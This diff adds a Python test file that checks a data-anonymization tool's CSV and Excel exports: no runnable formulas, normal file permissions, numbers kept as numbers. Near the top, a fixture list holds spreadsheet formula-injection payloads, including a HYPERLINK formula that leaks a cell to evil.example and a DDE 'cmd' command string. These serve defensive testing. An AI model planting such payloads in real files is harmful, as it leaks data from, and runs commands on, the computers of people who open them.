@@ -1,0 +1,154 @@
+"""Exports are safe to open: no formula, normal permissions, numbers as numbers."""
+
+from __future__ import annotations
+
+import csv
+import os
+import stat
+import zipfile
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+import core.io.write as write_module
+from core import MicroaggError, RoleSpec, anonymize, read_table, write_table
+from core.cli.main import main
+from core.io.cells import FORMULA_STARTS, restore_frame, restore_text
+from core.report import export_result
+from core.verify import verify_k_anonymity
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "=cmd|' /C calc'!A0",
+           "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "plain", "'quoted"]
+
+
+def hostile_table(n: int = 12) -> pd.DataFrame:
+    rng = np.random.default_rng(0)
+    return pd.DataFrame({
+        "age": rng.integers(20, 60, n), "income": rng.normal(100, 10, n).round(3),
+        "comment": [HOSTILE[i % len(HOSTILE)] for i in range(n)],
+        "=cmd|' /C calc'!A0": rng.integers(0, 5, n), "balance": -rng.random(n),
+    })
+
+
+def formulas_in_xlsx(path) -> list:
+    with zipfile.ZipFile(path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        if any("<f>" in archive.read(n).decode() or "<f " in archive.read(n).decode()
+               for n in sheets):
+            return ["<f> element"]
+    book = openpyxl.load_workbook(path)
+    return [c.coordinate for ws in book for row in ws.iter_rows() for c in row
+            if c.data_type == "f"]
+
+
+def executable_csv_cells(path) -> list:
+    with open(path, newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row
+                if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+text = st.text(alphabet=st.sampled_from(list("=+-@\t\r'ab1 ,;\"(|!")), max_size=12)
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow,
+                                                                 HealthCheck.function_scoped_fixture])
+@given(st.lists(text, min_size=1, max_size=6), text)
+def test_no_text_a_spreadsheet_could_run_survives_an_export(tmp_path, cells, header):
+    frame = pd.DataFrame({"note": cells, header or "h": range(len(cells)),
+                          "x": -np.arange(len(cells), dtype=float) - 0.5})
+    xlsx, comma = tmp_path / "t.xlsx", tmp_path / "t.csv"
+    write_table(xlsx, frame)
+    write_table(comma, frame)
+    assert formulas_in_xlsx(xlsx) == []
+    assert executable_csv_cells(comma) == []
+    book = openpyxl.load_workbook(xlsx)["masked"]
+    assert [c.value for c in book[1]][0] == "note"
+    stored = [restore_text(c.value, "xlsx") if c.value is not None else None
+              for c in book["A"][1:]]
+    assert stored == [None if v == "" else v for v in cells]  # the exact text, as text
+    numbers = [c.value for c in book["C"][1:]]
+    assert numbers == frame["x"].tolist()  # negative numbers stay numbers
+    back = restore_frame(pd.read_csv(comma, keep_default_na=False, dtype={"note": str}))
+    assert back["note"].tolist() == cells
+
+
+def test_a_release_with_hostile_text_verifies_from_both_files(tmp_path):
+    table = hostile_table(40)
+    roles = RoleSpec(quasi_identifiers=("age", "income", "comment"))
+    result = anonymize(table, roles, k=4)
+    for name in ("released.xlsx", "released.csv"):
+        path = export_result(result, tmp_path / name)
+        released = read_table(path)
+        if name.endswith(".csv"):
+            assert executable_csv_cells(path) == []
+        else:
+            assert formulas_in_xlsx(path) == []
+        released = restore_frame(released, "csv" if name.endswith(".csv") else "xlsx")
+        assert verify_k_anonymity(table, released, roles, 4).passed, name
+    source = tmp_path / "hostile.csv"
+    table.to_csv(source, index=False, lineterminator="\r\n")
+    out = tmp_path / "cli.csv"
+    assert main(["anonymize", str(source), "-o", str(out), "--k", "4", "--qi", "age",
+                 "income", "comment"]) == 0
+    assert main(["verify", str(source), str(out), "--k", "4", "--qi", "age", "income",
+                 "comment"]) == 0
+
+
+@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
+def test_exports_get_normal_permissions_and_keep_an_overwritten_files_mode(tmp_path):
+    old = os.umask(0o022)
+    try:
+        fresh = write_table(tmp_path / "fresh.csv", hostile_table())
+        assert stat.S_IMODE(fresh.stat().st_mode) == 0o644
+        kept = tmp_path / "kept.xlsx"
+        kept.write_bytes(b"old")
+        os.chmod(kept, 0o640)
+        write_table(kept, hostile_table())
+        assert stat.S_IMODE(kept.stat().st_mode) == 0o640
+    finally:
+        os.umask(old)
+
+
+def test_whole_number_floats_are_written_as_integers_in_csv(tmp_path):
+    frame = pd.DataFrame({"fnlwgt": [218992.0, 77516.0], "mean": [33.4, 35.0],
+                          "count": [1, 2]})
+    path = write_table(tmp_path / "t.csv", frame)
+    lines = path.read_text().splitlines()
+    assert lines[1] == "218992,33.4,1" and lines[2] == "77516,35.0,2"
+
+
+def test_the_summary_sheet_holds_numbers_as_numbers(tmp_path, sample_path):
+    table = read_table(sample_path)
+    roles = RoleSpec(quasi_identifiers=("age", "income"), identifiers=("person_id",))
+    path = export_result(anonymize(table, roles, k=5), tmp_path / "r.xlsx")
+    sheet = openpyxl.load_workbook(path)["summary"]
+    values = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    assert values["Records"].data_type == "n" and values["Records"].value == 600
+    assert values["IL = 100·SSE/SST (%)"].data_type == "n"
+    assert values["Verified"].value == "yes"
+    assert sheet.column_dimensions["A"].width > 20
+
+
+def test_a_table_too_long_for_excel_is_refused_before_writing(tmp_path, monkeypatch):
+    monkeypatch.setattr(write_module, "EXCEL_MAX_ROWS", 10)
+    with pytest.raises(MicroaggError, match="at most 9 rows.*Export to a .csv"):
+        write_table(tmp_path / "big.xlsx", hostile_table(12))
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_an_output_path_that_is_a_folder_is_named(tmp_path):
+    (tmp_path / "out.csv").mkdir()
+    with pytest.raises(MicroaggError, match="is a folder"):
+        write_table(tmp_path / "out.csv", hostile_table())
